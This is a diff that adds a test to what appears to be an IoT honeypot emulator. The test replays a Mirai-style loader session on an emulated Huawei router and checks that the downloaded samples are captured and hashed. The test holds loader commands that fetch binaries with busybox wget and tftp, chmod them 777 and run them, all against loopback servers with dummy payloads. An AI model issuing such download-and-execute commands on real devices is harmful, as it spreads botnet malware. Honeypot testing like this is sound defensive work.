@@ -9,6 +9,7 @@ import sys
 import time
 
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
+import fetchsrv  # noqa: E402
 import mirai  # noqa: E402
 import tanuki_test as tt  # noqa: E402
 from tanuki_test import Conn, Daemon, by_id  # noqa: E402
@@ -168,3 +169,61 @@ def test_botenago_style():
         urls = [e["url"] for e in by_id(evs, "tanuki.download.request")]
         assert "http://127.0.0.1:9/bins.sh" in urls, urls
         assert any("tftp2.sh" in u for u in urls), urls
+
+
+def _fetch_conf(dns_port):
+    # loopback only: `public '0'`, 127.0.0.0/8 allowed, a loopback DNS server
+    return ["config fetch 'fetch'", "\toption enabled '1'", "\toption public '0'",
+            "\toption dns '127.0.0.1:%d'" % dns_port, "\tlist allow '127.0.0.0/8'"]
+
+
+def _bot(arch, n):
+    body = bytearray(mirai.fake_dlr(path=b"/nothing", size=n, seed=len(arch)))
+    body[400:420] = b"\0" * 20  # no GET line: not a downloader
+    return bytes(body)
+
+
+def test_loader_fetches_land_in_the_shell():
+    """The loader's wget and tftp lines against loopback servers: BusyBox's
+    success output, the file in `ls -l` at its size, run, and the sample's
+    SHA-256 in the store (huawei-hg532 has both applets)."""
+    persona = "huawei-hg532"
+    info = tt.persona_info(persona)
+    user, pw, _ = info["creds"][0]
+    dns = fetchsrv.Dns({})
+    http = fetchsrv.http_server({})
+    tftp = fetchsrv.Tftp({})
+    try:
+        with Daemon(persona=persona, extra=_fetch_conf(dns.port)) as d:
+            ld = _loader_session(d, info)
+            assert ld.step_method() == "wget"
+            bot = _bot(ld.arch, 24000)
+            tbot = _bot(ld.arch + "t", 9000)
+            http.routes["/bins/mirai." + ld.arch] = ("file", bot)
+            tftp.files["mirai." + ld.arch] = tbot
+            hp = http.server_address[1]
+            out = mirai.token_cmd(ld.c, "/bin/busybox wget http://127.0.0.1:%d/bins/mirai.%s "
+                                  "-O - > dvrHelper" % (hp, ld.arch))
+            assert b"Connecting to 127.0.0.1:%d (127.0.0.1:%d)\r\n" % (hp, hp) in out, out
+            assert (b"\r-                    100% |" + b"*" * 31 + b"|%6d  " % len(bot)) in out, out
+            assert b"wget:" not in out, out
+            out = mirai.token_cmd(ld.c, "/bin/busybox chmod 777 dvrHelper; ls -l dvrHelper")
+            assert b"-rwxrwxrwx" in out and b" %d " % len(bot) in out, out
+            out = mirai.token_cmd(ld.c, "/bin/busybox tftp -g -l dvrHelper2 -r mirai.%s "
+                                  "127.0.0.1 %d" % (ld.arch, tftp.port))
+            assert b"tftp:" not in out, out
+            out = mirai.token_cmd(ld.c, "ls -l dvrHelper2")
+            assert b" %d " % len(tbot) in out, out
+            ld.run("./dvrHelper telnet." + ld.arch)
+            ld.close()
+            files = d.files()
+            for body in (bot, tbot):
+                sha = hashlib.sha256(body).hexdigest()
+                assert files.get(sha) == body, sha
+            want = {hashlib.sha256(b).hexdigest() for b in (bot, tbot)}
+            d.wait_events(lambda e: want <= {x.get("shasum") for x in
+                                             by_id(e, "cowrie.session.file_download")})
+    finally:
+        http.shutdown()
+        tftp.close()
+        dns.close()
